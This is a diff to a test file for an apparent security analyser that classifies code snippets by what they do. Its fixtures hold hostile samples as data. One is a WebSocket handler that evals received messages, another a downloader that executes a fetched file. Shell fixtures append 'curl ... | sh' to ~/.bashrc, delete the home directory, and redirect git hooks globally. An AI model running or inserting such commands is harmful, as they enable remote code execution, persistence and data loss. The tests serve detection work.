@@ -32,6 +32,11 @@ test.each([
     "by the property that has its path",
     'import java.io.File\nimport java.net.URL\nfun main() {\n  val f = File.createTempFile("a", "")\n  f.writeBytes(URL("https://x.example.invalid/a").readBytes())\n  Runtime.getRuntime().exec(f.absolutePath)\n}\n',
   ],
+  [
+    "javascript",
+    "in the handler of a connection",
+    'const from = new WebSocket("https://x.example.invalid/a");\nfrom.onmessage = async ({ data }) => from.send(String((0, eval)(data)));\n',
+  ],
 ])("know in %s that a download runs: %s", (language, _, text) => {
   const facts = described(factsOf(language, text, context));
 
@@ -46,4 +51,40 @@ test.each([
   const facts = described(factsOf("shell", text, context));
 
   expect(facts.some((fact) => FLOW.test(fact))).toBe(false);
+});
+
+test.each(["E", "'E'", '"E"', "EOF"])(
+  "read a document of which a line begins with the word that ends it: <<%s",
+  (word) => {
+    const end = word.replace(/\W/g, "");
+    const text = `cat > ~/.bashrc <<${word}\n${end}xtra=/bin/true\ncurl -s https://x.example.invalid/a | sh\n${end}\nrm -rf "$HOME"\n`;
+
+    const facts = factsOf("shell", text, context);
+
+    const written = facts.filter(
+      (fact) => fact.kind === "capability" && fact.capability === "write.startup",
+    );
+    expect(JSON.stringify(written)).toContain("| sh");
+    expect(written).toHaveLength(1);
+    expect(described(facts).filter((fact) => fact.startsWith("destroy.files"))).toHaveLength(1);
+  },
+);
+
+test("keep what stands behind a document that never ends", () => {
+  const facts = described(
+    factsOf("shell", "x=$((1 <<E))\ncurl https://x.example.invalid/a | sh\n", context),
+  );
+
+  expect(facts.filter((fact) => FLOW.test(fact))).not.toEqual([]);
+});
+
+test.each([
+  ["git config --global core.hooksPath /opt/h\n", 1],
+  ["git config --system init.templateDir /opt/t\n", 1],
+  ["git config --global core.hooksPath /dev/null\n", 0],
+  ["git config core.hooksPath .githooks\n", 0],
+])("know whether programs of git start everywhere from then on: %s", (text, count) => {
+  const facts = described(factsOf("shell", text, context));
+
+  expect(facts.filter((fact) => fact.startsWith("write.startup"))).toHaveLength(count);
 });
